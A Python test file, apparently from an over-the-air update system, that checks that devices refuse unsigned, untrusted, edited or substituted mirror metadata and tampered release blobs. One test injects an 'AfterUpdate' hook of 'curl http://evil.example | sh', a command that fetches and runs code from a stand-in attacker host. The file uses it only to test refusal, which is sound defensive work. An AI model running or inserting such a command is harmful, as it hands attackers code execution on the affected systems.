"""Arbitrary software: whoever can write to the mirror, or sits on the way, offers something of their own."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING

import pytest

from devclient.errors import BrokenPromiseError
from devclient.trust_errors import MixAndMatchError, SignatureError
from mirror import layout, trust
from tests.attacks.scene import BRANCH, EVIL, LIST, PACKAGE, ROLES, edited, forged
from tests.support import trees
from tests.support.simulator import Simulator, new_signer
from tests.support.trees import Release

if TYPE_CHECKING:
    from pathlib import Path

    from tests.attacks.scene import Scene
    from tests.support.devices import Rig

each_role = pytest.mark.parametrize(("role", "claimed"), ROLES)


@each_role
def test_metadata_without_signatures_is_refused(scene: Scene, role: str) -> None:
    """What nobody has signed counts for nothing, whatever role it plays."""
    with scene.refusing(SignatureError):
        scene.replace(role, forged(scene.says(role)))


@each_role
def test_metadata_signed_by_strangers_is_refused(scene: Scene, role: str) -> None:
    """A signature that is right, by a key that nobody trusts, counts for nothing."""
    with scene.refusing(SignatureError):
        scene.replace(role, forged(scene.says(role), new_signer()))


@each_role
def test_metadata_that_was_changed_is_refused(scene: Scene, role: str) -> None:
    """A signature holds for the bytes that were signed, and for no others."""
    with scene.refusing(SignatureError):
        scene.replace(role, edited(scene.file(role), expires="2099-01-01T00:00:00Z"))


def test_another_mirror_in_its_place_is_refused(scene: Scene, tmp_path: Path) -> None:
    """A mirror that is whole and sound, but not signed under the root of the device, offers nothing."""
    other = Simulator(tmp_path / "other")
    other.list(PACKAGE, BRANCH, scene.evil_list())
    other.publish()

    with scene.refusing(SignatureError):
        for file in other.tree.rglob("*.json"):
            if "root" not in file.name:
                scene.simulator.put(file.relative_to(other.tree).as_posix(), file.read_bytes())


def test_a_root_of_another_mirror_is_told_by_both_keys(rig: Rig, tree: Path, tmp_path: Path) -> None:
    """A device that was given the root of another site, or whose site was set up anew, says so before all else."""
    trees.write(tree, Release("1.0"))
    other = Simulator(tmp_path / "other")
    rig.config.with_name("otadevice-root.json").write_bytes(other.read(trust.ROOT, 1))
    rig.add(PACKAGE)
    ours, theirs = (made.root.roles[trust.ROOT].keyids[0] for made in (other, trees.simulator(tree)))

    done = rig.run("update")

    assert done.exit_code == 1
    assert f"this device is pinned to {ours}, the mirror starts from {theirs}" in done.stderr
    assert "`otamirror keys export-root`" in done.stderr
    assert json.loads(rig.run("status", "--json").stdout)["trust"]["main"]["error"]["code"] == SignatureError.code


def test_another_mirrors_next_root_is_refused(scene: Scene, tmp_path: Path) -> None:
    """A root that vouches for itself alone does not follow the one that is trusted."""
    version = scene.simulator.root.version + 1
    other = Simulator(tmp_path / "other")
    other.root.version = version

    with scene.refusing(SignatureError):
        scene.simulator.publish()
        scene.simulator.write(trust.ROOT, version, other.sign(trust.ROOT, other.root))


def test_a_release_list_of_the_attackers_is_refused(scene: Scene) -> None:
    """A list has the bytes that were signed for."""
    evil = trees.prepare(scene.tree, Release("6.6", EVIL))  # no larger than the right one

    with scene.refusing(MixAndMatchError):
        scene.replace_file(scene.hashed_list, evil)


def test_a_list_with_one_changed_digit_is_refused(scene: Scene) -> None:
    """So it is if the list has the size that was signed for."""
    honest = (scene.tree / scene.hashed_list).read_bytes()
    evil = Release("2.0", EVIL)
    scene.evil_list()

    with scene.refusing(MixAndMatchError):
        scene.replace_file(scene.hashed_list, honest.replace(scene.releases[-1].sha256.encode(), evil.sha256.encode()))


def test_a_content_of_the_attackers_is_refused(scene: Scene) -> None:
    """A content.json has the bytes that the list names, however harmless the change."""
    path = layout.get_version(PACKAGE, BRANCH, "2.0")
    content = json.loads((scene.tree / path).read_bytes())

    with scene.refusing(BrokenPromiseError):
        scene.replace_file(path, json.dumps(content | {"AfterUpdate": "curl http://evil.example | sh"}).encode())


@pytest.mark.parametrize("data", [EVIL, b"evil 2.0"], ids=["other size", "same size"])
def test_a_blob_of_the_attackers_is_refused(scene: Scene, data: bytes) -> None:
    """A blob has the bytes that the content.json names."""
    blob = layout.blob(scene.releases[-1].sha256)
    data = data.ljust(len(scene.releases[-1].data)) if data != EVIL else data

    with scene.refusing(BrokenPromiseError):
        scene.replace_file(blob, data)


def test_what_is_not_signed_is_not_asked_for(scene: Scene) -> None:
    """The pointers for plain clients may say what they like: a device does not read them."""
    scene.replace_file(LIST, scene.evil_list())

    scene.meets()

    assert scene.server.asked(f"/{LIST}") == []
    assert scene.server.asked("/maxVersion/") == []
